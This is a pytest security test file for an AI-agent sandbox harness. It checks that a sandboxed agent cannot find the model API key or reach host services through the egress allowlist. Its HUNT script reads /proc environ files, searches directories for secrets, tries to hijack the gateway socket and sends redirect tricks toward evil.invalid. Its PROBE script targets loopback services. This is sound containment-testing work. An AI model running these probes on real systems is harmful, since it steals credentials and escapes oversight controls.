"""Attack rows 15-16: the model key and the egress allowlist.

Row 15: the agent hunts for the model API key everywhere it can look (its environment, every process's
/proc environ, the socket directory, the relay, its home), tries to replace the gateway's socket, and
asks the gateway to send its request elsewhere (another Host, an absolute URL, path tricks). Whatever it
finds goes into the copy, which the host reads from the branch. Positive control: a key handed in the old
way (`--env`) is found by the same hunt.

Row 16: with `--network allowlist`, the agent tries to reach a host loopback service through a listed
*name* that resolves to loopback, and through an unlisted port. Positive control: the same service listed
by its IP literal is reached.
"""

from __future__ import annotations

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from tests.helpers import GitRepo, harness, run_args
from tests.security.conftest import journal_text, run_agent
from tests.upstreams import Reply, ScriptedUpstream

pytestmark = pytest.mark.docker

KEY = "sk-ant-ROW15-real-key-5d1f0c9b8a7e6d4c"
ROW15 = pytest.mark.attack(row=15, name="hunt for the model API key (env, /proc, sockets, gateway tricks)")
ROW16 = pytest.mark.attack(row=16, name="reach host services through the egress allowlist")

HUNT = r"""
import glob, json, os, socket, subprocess, urllib.request
found = []
def look(text):
    found.append(text)
look("\n".join(f"{k}={v}" for k, v in os.environ.items()))
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        look(open(path, "rb").read().decode("utf-8", "replace"))
    except OSError:
        pass
for root in ("/harness-net", "/harness", os.environ.get("HOME", "/tmp"), "/tmp"):
    for dirpath, _, files in os.walk(root):
        for name in files:
            try:
                look(open(os.path.join(dirpath, name), "rb").read(1 << 20).decode("utf-8", "replace"))
            except OSError:
                pass
try:  # replace the gateway's socket with one of its own (a man in the middle)
    os.rename("/harness-net/gateway.sock", "/harness-net/moved.sock")
    found.append("SOCKET-MOVED")
except OSError as exc:
    found.append(f"socket rename refused: {exc.errno}")
base = os.environ["ANTHROPIC_BASE_URL"]
for path, headers in (("/v1/messages", {"Host": "echo.invalid"}), ("/v1/messages?x=//evil.invalid/", {}),
                      ("//evil.invalid/v1/messages", {}), ("/v1/../v1/messages", {})):
    req = urllib.request.Request(base + path, method="POST", data=b'{"model": "m", "messages": []}',
                                 headers={"x-api-key": "placeholder", "content-type": "application/json", **headers})
    try:
        look(urllib.request.urlopen(req, timeout=30).read().decode())
    except Exception as exc:
        look(f"{path}: {exc}")
open("hunt.txt", "w").write("\n".join(found))
json.dump({"state": "done", "summary": "hunted"}, open(os.environ["HARNESS_STATUS_FILE"], "w"))
"""


def _hunt(repo: GitRepo, session: str, runtime: str, *extra: str, env: dict[str, str]) -> str:
    (repo.path / "hunt.py").write_text(HUNT)
    repo.git("add", "hunt.py")
    repo.git("commit", "-q", "-m", "hunt", check=False)
    r = harness(*run_args(session, "--runtime", runtime, *extra, cmd="python3 hunt.py", objective="attack",
                          iterations=1), cwd=repo.path, env=env)  # fmt: skip
    assert r.code == 0 and r.json()["status"] == "completed", r.stderr
    return repo.git("show", f"harness/{session}:hunt.txt")


@ROW15
def test_the_agent_cannot_find_the_model_key(repo: GitRepo, runtime: str) -> None:
    with ScriptedUpstream(anthropic=[Reply(text="a")] * 8) as up:
        env = {"ANTHROPIC_BASE_URL": up.url, "ANTHROPIC_API_KEY": KEY, "LEAKED_KEY": KEY}
        control = _hunt(repo, "hunt-control", runtime, "--env", "LEAKED_KEY", env=env)
        assert KEY in control  # the trap fires: a key in the sandbox's environment is found
        hunted = _hunt(repo, "hunt", runtime, env=env)
        seen = up.seen("/v1/messages")
    assert KEY not in hunted and "SOCKET-MOVED" not in hunted and "socket rename refused" in hunted
    assert "sk-harness-placeholder-not-a-key" in hunted  # it did read its environment
    assert KEY not in journal_text(repo, "hunt") and KEY not in repo.git("log", "-p", "harness/hunt")
    # Only the exact routes reach the upstream, always its own host, with the real key added there.
    assert seen and {s.headers["host"] for s in seen} == {f"127.0.0.1:{up.port}"}
    assert all(s.headers["x-api-key"] == KEY for s in seen)


def test_model_keys_are_refused_as_env(repo: GitRepo) -> None:
    r = harness(*run_args("envkey", "--env", "ANTHROPIC_API_KEY", "--dry-run", cmd="true", as_json=False),
                cwd=repo.path, env={"ANTHROPIC_API_KEY": KEY})  # fmt: skip
    assert r.code == 2 and "gateway" in r.stderr and KEY not in r.stderr + r.stdout


PROBE = r"""
import http.client, json, os, sys
host, port = os.environ["HTTPS_PROXY"].removeprefix("http://").split(":")
out = {}
for target in sys.argv[1:]:
    conn = http.client.HTTPConnection(host, int(port), timeout=30)
    try:
        conn.request("GET", f"http://{target}/secret", headers={"Host": target})
        resp = conn.getresponse()
        out[target] = [resp.status, resp.read().decode()[:200]]
    except Exception as exc:
        out[target] = [0, str(exc)]
json.dump(out, open("probe.json", "w"))
json.dump({"state": "done", "summary": "probed"}, open(os.environ["HARNESS_STATUS_FILE"], "w"))
"""


@ROW16
def test_the_allowlist_does_not_reach_host_services_by_name(repo: GitRepo, runtime: str) -> None:
    hits: list[str] = []

    class Service(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b"the user's local service")

        def log_message(self, *args: object) -> None:
            pass

    service = ThreadingHTTPServer(("127.0.0.1", 0), Service)
    threading.Thread(target=service.serve_forever, daemon=True).start()
    port = service.server_address[1]
    (repo.path / "probe.py").write_text(PROBE)
    repo.git("add", "probe.py")
    repo.git("commit", "-q", "-m", "probe")
    try:
        control = run_agent(repo, "allow-ip", f"python3 probe.py 127.0.0.1:{port}", runtime, "--network",
                            "allowlist", "--allow-host", f"127.0.0.1:{port}")  # fmt: skip
        assert control.json()["status"] == "completed", control.stderr
        reached = json.loads(repo.git("show", "harness/allow-ip:probe.json"))
        assert reached[f"127.0.0.1:{port}"][0] == 200 and hits  # the trap: a listed IP reaches the host
        hits.clear()
        # Only loopback targets: a name listed by the user that resolves to loopback, and an unlisted port.
        # (Names resolving to metadata and private addresses are refused by the same check; the unit tests
        # drive them with an injected resolver, since no test sends anything to such an address.)
        targets = [f"localhost:{port}", f"127.0.0.1:{port + 1}"]
        r = run_agent(repo, "allow-name", "python3 probe.py " + " ".join(targets), runtime, "--network", "allowlist",
                      "--allow-host", f"localhost:{port}", "--allow-host", f"127.0.0.1:{port + 2}")  # fmt: skip
    finally:
        service.shutdown()
    assert r.json()["status"] == "completed", r.stderr
    probed = json.loads(repo.git("show", "harness/allow-name:probe.json"))
    assert all(probed[t][0] == 403 for t in targets), probed
    assert hits == []  # the user's service never saw a request
    log = [json.loads(line) for line in (repo.journal("allow-name") / "egress.log").read_text().splitlines()]
    assert {entry["decision"] for entry in log} == {"refused"} and len(log) == 2
    assert "loopback" in log[0]["reason"] or "loopback" in log[1]["reason"]
